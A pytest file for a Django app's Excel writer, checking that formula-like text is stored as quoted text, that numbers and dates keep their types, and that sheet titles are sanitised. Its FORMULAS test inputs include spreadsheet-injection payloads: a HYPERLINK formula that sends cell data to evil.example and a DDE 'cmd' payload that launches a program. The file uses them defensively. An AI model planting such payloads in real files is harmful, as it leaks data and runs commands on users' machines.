"""lossdesk.core.excel, the one writer of every workbook: text never becomes a formula, numbers
and dates keep their types; and no other module builds an openpyxl workbook."""

import re
import zipfile
from datetime import date
from decimal import Decimal
from io import BytesIO
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from lossdesk.core.excel import Column, Workbook
from lossdesk.testing import PASSWORD

# What a crafted client name, header or filter value could hold.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+1+2",
    "-1+2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
)


def sheet_xml(content: bytes) -> str:
    """Every worksheet's XML of a saved workbook, joined."""
    with zipfile.ZipFile(BytesIO(content)) as archive:
        names = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert names
        return "".join(archive.read(name).decode() for name in names)


def assert_no_formulas(content: bytes) -> None:
    """No formula anywhere in the file, and every text cell a text cell."""
    assert "<f>" not in sheet_xml(content) and "<f " not in sheet_xml(content)
    for sheet in load_workbook(BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", cell.coordinate


def test_text_that_looks_like_a_formula_is_stored_as_text_with_the_quote_prefix():
    book = Workbook()
    book.add_sheet("表", ["名称", *FORMULAS], [list(FORMULAS), ["\r=1+2", "普通文字"]])
    content = book.content()
    assert_no_formulas(content)
    sheet = load_workbook(BytesIO(content))["表"]
    for index, text in enumerate(FORMULAS, start=1):
        cell = sheet.cell(2, index)
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
        header = sheet.cell(1, index + 1)
        assert (header.value, header.data_type) == (text, "s")
    carriage_return = sheet.cell(3, 1)  # XML reads a stored CR back as LF
    assert (carriage_return.data_type, carriage_return.quotePrefix) == ("s", True)
    plain = sheet.cell(3, 2)
    assert (plain.value, plain.data_type, plain.quotePrefix) == ("普通文字", "s", False)


def test_numbers_decimals_and_dates_keep_their_types_and_formats():
    book = Workbook()
    columns = [
        Column("数量", number_format="#,##0"),
        Column("金额", number_format="#,##0.00"),
        Column("日期", number_format="yyyy-mm-dd"),
    ]
    book.add_sheet(
        "表", columns, [[-3, Decimal("-1.50"), date(2026, 3, 2)]], footer=[7, None, "合计"]
    )
    content = book.content()
    assert_no_formulas(content)
    sheet = load_workbook(BytesIO(content))["表"]
    count, money, day = sheet[2]
    assert (count.value, count.data_type, count.number_format) == (-3, "n", "#,##0")
    assert (money.value, money.data_type, money.number_format) == (-1.5, "n", "#,##0.00")
    assert day.value.date() == date(2026, 3, 2) and day.number_format == "yyyy-mm-dd"
    assert sheet.cell(3, 1).font.bold and sheet.cell(3, 3).value == "合计"
    assert sheet.freeze_panes == "A2"
    assert sheet.cell(1, 1).font.bold


def test_a_lazy_label_is_written_as_text():
    book = Workbook()
    book.add_sheet("表", [gettext_lazy("名称")], [[gettext_lazy("=1+2")]])
    sheet = load_workbook(BytesIO(book.content()))["表"]
    assert (sheet["A1"].value, sheet["A2"].value, sheet["A2"].data_type) == ("名称", "=1+2", "s")


def test_control_characters_are_dropped_instead_of_failing_the_whole_file():
    book = Workbook()
    book.add_sheet("表", ["名称"], [["人保\x01财险"]])
    assert load_workbook(BytesIO(book.content()))["表"]["A2"].value == "人保财险"


def test_sheet_titles_are_made_valid_and_unique():
    book = Workbook()
    for _ in range(2):
        book.add_sheet(
            "按机构/按月: 统计[全部]*?超过三十一个字符的标题会被截断以符合限制", ["a"], []
        )
    titles = load_workbook(BytesIO(book.content())).sheetnames
    assert len(titles) == 2 and len(set(titles)) == 2
    assert all(len(t) <= 31 and not re.search(r"[\[\]:*?/\\]", t) for t in titles)


def test_no_module_but_core_excel_builds_an_openpyxl_workbook():
    root = Path(__file__).resolve().parents[2]
    writer = root / "core" / "excel.py"
    builders = re.compile(
        r"from openpyxl[\w.]* import (\([^)]*|[^\n]*)\bWorkbook\b|openpyxl(\.\w+)*\.Workbook\b"
    )
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path != writer and "tests" not in path.parts and builders.search(path.read_text())
    ]
    assert offenders == []


@pytest.mark.django_db
def test_the_parts_catalogue_template_has_no_formula(client, firm):
    firm.staff("baojia", "报价员", "price_desk", firm.hangzhou)
    assert client.login(username="baojia", password=PASSWORD)
    response = client.get(reverse("parts:import-template", args=["xlsx"]))
    assert response.status_code == 200
    assert_no_formulas(response.content)
    sheet = load_workbook(BytesIO(response.content))["配件目录"]
    assert sheet.freeze_panes == "A2" and sheet["A1"].value == "oe_number"
